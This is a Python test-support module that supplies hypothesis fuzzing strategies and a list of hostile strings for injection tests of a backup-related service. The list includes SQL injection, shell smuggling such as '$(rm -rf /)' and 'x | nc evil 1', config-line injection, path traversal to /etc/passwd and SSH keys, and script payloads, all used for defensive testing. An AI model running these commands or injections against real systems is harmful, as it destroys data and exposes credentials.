"""Hostile input for the fuzz and injection tests: the strings attackers and accidents send, and
hypothesis strategies built on them.

Every fuzz test runs a bounded number of examples (`FUZZ`) with no example database (nothing is
written into the tree) and no deadline: the suite runs on loaded CI machines, where one slow
example says nothing about the code. A failure prints the example that broke it.
"""

from __future__ import annotations

import math
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

__all__ = [
    "ATTACKS",
    "FUZZ",
    "HUGE",
    "json_values",
    "settings_for",
    "strings",
]


def settings_for(examples: int) -> settings:
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


FUZZ = settings_for(150)

HUGE = "x" * 100_000

ATTACKS: tuple[str, ...] = (
    # SQL and quoting
    "'; DROP TABLE x; --",
    "x'; DROP TABLE backups; --",
    '"; DROP TABLE x; --',
    "' OR '1'='1",
    "x' || pg_sleep(10) || '",
    "\\'",
    "\\",
    "'",
    '"',
    # shells
    "$(rm -rf /)",
    "`rm -rf /`",
    "x; rm -rf /",
    "x && reboot",
    "x | nc evil 1",
    "${IFS}",
    # line breaks into postgresql.auto.conf or an RMAN script
    "x\narchive_command = 'rm -rf /'",
    "x\r\nhost all all 0.0.0.0/0 trust",
    "x';\nSHUTDOWN ABORT;\n",
    "NIGHTLY\n",
    "x\u2028y",
    # NUL and control characters
    "x\x00y",
    "\x00",
    "x\x1by",
    "x\x7f",
    # traversal and absolute paths
    "../../etc/passwd",
    "..",
    ".",
    "a/../../b",
    "/etc/passwd",
    "//etc/passwd",
    "a//b",
    "a/./b",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f",
    "..\\..\\windows",
    "C:\\Windows",
    "~/.ssh/id_rsa",
    ".hidden",
    # unicode lookalikes and direction marks
    "\uff0e\uff0e/\uff0e\uff0e/etc/passwd",  # fullwidth dots
    "\u2024\u2024/etc",  # one-dot leaders
    "orders\u202edb",  # right-to-left override
    "orders\u200bdb",  # zero-width space
    "\u0430dmin",  # Cyrillic a
    "\uff4f\uff52\uff44\uff45\uff52\uff53",  # fullwidth letters
    "orders\ufeff",
    "\ud800",  # a lone surrogate
    # NATS subject syntax
    "orders.>",
    "*",
    ">",
    "a b",
    # format strings and templates
    "%s%s%s%n",
    "{0.__class__}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    # overlong and empty
    "",
    " ",
    "x" * 5000,
    "a" * 64,
    "a" * 1025,
)
"""Classic attacks on names that reach RMAN, SQL, file paths, subjects and object keys."""


def strings() -> st.SearchStrategy[str]:
    """Arbitrary text, weighted towards the attacks."""
    return st.one_of(st.sampled_from(ATTACKS), st.text(max_size=80))


def _floats() -> st.SearchStrategy[float]:
    return st.one_of(
        st.sampled_from([math.nan, math.inf, -math.inf, -0.0, 1e308, -1e308, 5e-324]),
        st.floats(allow_nan=True, allow_infinity=True),
    )


_TIMES = (
    "2026-01-31T12:00:00",  # naive
    "2026-01-31 12:00:00",
    "2026-01-31",
    "2026-02-30T12:00:00Z",
    "2026-01-31T25:00:00Z",
    "9999-12-31T23:59:59-23:59",  # after UTC conversion, beyond year 9999
    "0001-01-01T00:00:00+23:59",  # before year 1
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59.999999Z",
    "2026-01-31T12:00:00+24:00",
    "-2026-01-31T12:00:00Z",
    "now",
    "1e999",
)


def json_values(max_leaves: int = 8) -> st.SearchStrategy[Any]:
    """Any JSON value (NaN and infinities included), weighted towards wrong types, huge and
    negative numbers, hostile strings and malformed times."""
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.sampled_from([-1, -(2**63), 2**63, 2**64, 2**64 - 1, -(2**64), 10**400]),
        _floats(),
        strings(),
        st.sampled_from(_TIMES),
    )
    return st.recursive(
        scalars,
        lambda inner: st.one_of(
            st.lists(inner, max_size=4),
            st.dictionaries(strings(), inner, max_size=4),
        ),
        max_leaves=max_leaves,
    )
